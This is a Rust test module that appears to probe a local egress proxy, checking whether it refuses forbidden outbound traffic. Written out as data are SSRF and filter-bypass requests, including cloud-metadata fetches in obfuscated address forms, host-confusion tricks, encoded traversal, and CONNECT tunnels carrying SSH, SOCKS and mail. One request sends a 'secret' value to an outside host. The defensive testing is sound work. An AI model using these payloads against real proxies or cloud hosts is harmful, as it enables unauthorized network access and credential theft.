//! Attacks by the way out: servers that nobody allowed, named in ways that two readers might read differently, and
//! other protocols in tunnels.

use std::net::SocketAddr;

use demo::report::Layer;

use crate::door::{connect_to, exchange_on};
use crate::probe::{Attempts, EVERYWHERE, KILLED, Probe, Verdict, short};

/// Where the proxy is.
pub(crate) const PORT: u16 = 8183;

const fn probe(id: &'static str, title: &'static str, attempt: &'static str, run: fn() -> Verdict) -> Probe {
    Probe { id, title, attempt, layer: Layer::Door, places: EVERYWHERE, deaths: KILLED, seconds: 240, run }
}

pub(crate) const PROBES: &[Probe] = &[
    probe(
        "egress-servers",
        "the way out",
        "asks the proxy for servers, also by odd addresses, users, dots and slashes",
        servers,
    ),
    probe(
        "egress-tunnels",
        "tunnels out",
        "other hosts, SSH, SOCKS, mail and WebSockets in tunnels of the proxy",
        tunnels,
    ),
];

/// Sends each, and takes an answer that is no refusal for a breach.
fn sent(requests: &[(&str, String)]) -> Verdict {
    let address = SocketAddr::from(([127, 0, 0, 1], PORT));
    let mut attempts = Attempts::default();
    for (name, bytes) in requests {
        let stream = match connect_to(address) {
            Ok(stream) => stream,
            Err(e) => return Verdict::not_applicable(format!("no proxy at {address}: {}", short(&e))),
        };
        match exchange_on(stream, bytes.as_bytes()) {
            Ok(answer) => judge(&mut attempts, name, &answer.text()),
            Err(e) => attempts.stopped(*name, format!("cut off ({})", short(&e))),
        }
    }
    attempts.verdict("nothing was tried")
}

/// A tunnel that stands is nothing yet: what comes through it counts.
fn judge(attempts: &mut Attempts, name: &str, answer: &str) {
    let opened = answer.strip_prefix("HTTP/1.1 200 OK\r\n").and_then(|rest| rest.split_once("\r\n\r\n"));
    let came = opened.map_or(answer, |(_, came)| came);
    let status: Option<u16> = came.strip_prefix("HTTP/1.1 ").and_then(|rest| rest.get(..3)?.parse().ok());
    match status {
        Some(status) if status >= 400 => attempts.stopped(name, status.to_string()),
        None if came.is_empty() => attempts.stopped(name, "cut off"),
        Some(_) | None => attempts.worked(name, came.chars().take(40).collect::<String>()),
    }
}

fn get(target: &str) -> String {
    format!("GET {target} HTTP/1.1\r\nconnection: close\r\n\r\n")
}

fn servers() -> Verdict {
    sent(&[
        ("a name", get("http://example.com/?data=secret")),
        ("an address", get("http://1.1.1.1/")),
        ("cloud metadata", get("http://169.254.169.254/latest/meta-data/")),
        ("the host", get("http://10.0.2.2/")),
        ("one number", get("http://2852039166/")),
        ("octal", get("http://0251.0376.0251.0376/")),
        ("mapped", get("http://[::ffff:169.254.169.254]/")),
        ("a user", get("http://api.github.com@example.com/")),
        ("a final dot", get("http://example.com./")),
        ("encoded dots", get("http://example.com/a/%2e%2e/b")),
        ("an encoded slash", get("http://example.com/a%2f..%2fb")),
        ("two hosts", "GET http://example.com/ HTTP/1.1\r\nhost: example.org\r\n\r\n".to_owned()),
        ("another scheme", get("ftp://example.com/")),
        ("no proxy's target", "GET / HTTP/1.1\r\nhost: example.com\r\n\r\n".to_owned()),
    ])
}

fn tunnels() -> Verdict {
    let tunnel = |target: &str, what: &str| format!("CONNECT {target} HTTP/1.1\r\n\r\n{what}");
    let host = |host: &str| format!("GET / HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n");
    let upgrade = "GET / HTTP/1.1\r\nhost: example.com\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n";
    sent(&[
        ("HTTP", tunnel("example.com:80", &host("example.com"))),
        ("another host", tunnel("example.com:80", &host("example.org"))),
        ("a tunnel in it", tunnel("example.com:80", "CONNECT example.org:22 HTTP/1.1\r\n\r\n")),
        ("a WebSocket", tunnel("example.com:80", upgrade)),
        ("SSH", tunnel("example.com:22", "SSH-2.0-hostile\r\n\r\n")),
        ("SOCKS", tunnel("example.com:1080", "\u{5}\u{1}\u{0}")),
        ("mail", tunnel("example.com:25", "ehlo hostile\r\n\r\n")),
        ("the daemon", tunnel("127.0.0.1:1", &host("127.0.0.1:1"))),
    ])
}
